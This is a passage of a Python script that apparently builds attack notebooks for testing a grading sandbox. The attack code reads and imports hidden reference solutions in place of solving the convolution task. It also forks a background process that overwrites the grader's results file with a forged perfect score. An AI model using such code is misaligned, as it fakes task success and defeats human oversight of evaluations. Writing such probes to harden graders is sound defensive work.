                started = handle.read().rsplit(")", 1)[1].split()[19]
            record("daemon.json", {"pid": os.getpid(), "start": started})
            deadline = time.monotonic() + patience
            while not os.path.exists(RESULTS) and time.monotonic() < deadline:
                time.sleep(0.05)
            time.sleep(2)
            forged = {"score": 10, "output": "All tests passed", "tests": []}
            try:
                with open(RESULTS, "w") as handle:
                    json.dump(forged, handle)
                record("forged.json", "wrote " + RESULTS)
            except OSError as error:
                record("forged.json", type(error).__name__)
    finally:
        os._exit(0)


def reference():
    if not STATE:
        seen = {}
        try:
            seen["listing"] = sorted(os.listdir(SOLUTIONS))
        except OSError as error:
            seen["listing"] = type(error).__name__
        try:
            with open(os.path.join(SOLUTIONS, "convolutions.py")) as handle:
                STATE["source"] = handle.read()
            seen["file"] = "read"
        except OSError as error:
            seen["file"] = type(error).__name__
        try:
            import solutions.convolutions as module

            STATE["module"] = module
            seen["import"] = "imported"
        except Exception as error:
            seen["import"] = type(error).__name__
        STATE["seen"] = seen
        record("read.json", seen)
        forge_later()
    if "module" in STATE:
        return STATE["module"]
    if "source" in STATE:
        space = {}
        exec(STATE["source"], space)
        return type("Reference", (), {name: staticmethod(space[name]) for name in
                                       ("get_subimages", "convolve", "template_match")})
    return None
""",
    """\
def get_subimages(image, kernel_shape):
    found = reference()
    if found:
        return found.get_subimages(image, kernel_shape)
    height, width = kernel_shape
    return np.zeros((image.shape[0] - height + 1, image.shape[1] - width + 1, height, width))


def convolve(image, kernel):
    found = reference()
    if found:
        return found.convolve(image, kernel)
    return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))


def template_match(image, template):
    found = reference()
    if found:
        return found.template_match(image, template)
    return np.zeros((image.shape[0] - template.shape[0] + 1,
                     image.shape[1] - template.shape[1] + 1))
""",
)



def write_all() -> None:
    for stale in HERE.glob("*.ipynb"):
        stale.unlink()
    for name, (description, cells) in ATTACKS.items():
        notebook = nbformat.v4.new_notebook()
        notebook.metadata["kernelspec"] = {
            "display_name": "Python 3", "language": "python", "name": "python3",
        }
        notebook.cells = [nbformat.v4.new_markdown_cell(description)] + [
            nbformat.v4.new_code_cell(source.rstrip("\n") + "\n") for source in cells
        ]
        for number, cell in enumerate(notebook.cells, start=1):
            cell.id = f"cell-{number}"  # stable ids, so writing again changes nothing
        nbformat.validate(notebook)
        nbformat.write(notebook, HERE / f"{name}.ipynb")


if __name__ == "__main__":
    write_all()
